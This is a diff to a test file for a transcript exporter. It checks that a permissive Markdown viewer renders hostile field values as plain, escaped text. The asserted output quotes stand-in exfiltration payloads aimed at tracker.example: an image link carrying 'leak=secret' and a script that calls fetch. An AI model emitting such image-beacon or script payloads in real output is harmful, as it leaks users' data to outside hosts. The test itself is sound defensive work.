@@ -1,8 +1,9 @@
 /** D1: the Markdown and HTML transcripts show everything invisible as a mark, whatever field it is in. */
+import MarkdownIt from 'markdown-it';
 import { describe, expect, it } from 'vitest';
 import { readJournalEvent } from '../../common/events.js';
 import { renderHtml, renderMarkdown, type TranscriptEvent, type TranscriptMeta } from '../../main/export/transcript.js';
-import { firstUnsafe, HOSTILE_SHORT, HOSTILE_TEXT, hostileEvents } from '../support/hostile.js';
+import { firstUnsafe, HOSTILE_MARKDOWN, HOSTILE_SHORT, HOSTILE_TEXT, hostileEvents } from '../support/hostile.js';
 
 const META: TranscriptMeta = { title: 'chat', conversationId: '00000000-0000-4000-8000-000000000001', agent: 'helper v1', exportedAt: '2026-03-01T12:00:00.000Z', events: 1, chainHead: 'a'.repeat(64), uncertainRuns: [] };
 
@@ -31,5 +32,25 @@ describe('transcripts (D1)', () => {
       expect(text).toContain('\\u{e0069}\\u{e0067}\\u{e006e}');
       expect(text).toContain('⟨800 blanks⟩');
     }
+  });
+
+  // Also as fields that begin and end with a backtick or a space, where a code span's delimiters are at stake.
+  it.each([HOSTILE_MARKDOWN, `\`${HOSTILE_MARKDOWN}\``, ` ${HOSTILE_MARKDOWN} `])('test_a_markdown_viewer_makes_no_image_link_html_heading_or_table_of_any_field_of_the_markdown_transcript_case_%#', (text) => {
+    const meta: TranscriptMeta = { title: text, conversationId: text, agent: text, exportedAt: text, events: 1, chainHead: text, uncertainRuns: [text] };
+    const { markdown } = both(meta, transcriptEvents(hostileEvents(text), text));
+    // The most permissive common viewer: raw HTML on, bare URLs linked, GFM tables.
+    const rendered = new MarkdownIt({ html: true, linkify: true }).render(markdown);
+    const tags = new Set([...rendered.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9]*)/g)].map((match) => match[1]!.toLowerCase()));
+    expect([...tags].sort()).toEqual(['blockquote', 'code', 'em', 'h1', 'h3', 'li', 'p', 'pre', 'strong', 'ul']);
+    // No element has an attribute: no href, src, style or handler can come from the payload.
+    expect(rendered).not.toMatch(/<[a-zA-Z][a-zA-Z0-9]*\s/);
+    // Headings are Ward's alone: the title, then who spoke and when.
+    const headings = [...rendered.matchAll(/<h(\d)>(.*?)<\/h\1>/gs)].map((match) => `h${match[1]} ${match[2]}`);
+    expect(headings[0]).toMatch(/^h1 <code>[^<]*<\/code>$/);
+    for (const heading of headings.slice(1)) expect(heading).toMatch(/^h3 (You|Agent) · <code>[^<]*<\/code>( \(cut short\))?$/);
+    expect(headings.length).toBeGreaterThan(2);
+    // What the model wrote is there to read, as text.
+    expect(rendered).toContain('![](https://tracker.example/p.png?leak=secret) [click](https://tracker.example/c) &lt;https://tracker.example/auto&gt;\nhttps://tracker.example/bare');
+    expect(rendered).toContain('&lt;script&gt;fetch(&quot;https://tracker.example/s&quot;)&lt;/script&gt;');
   });
 });
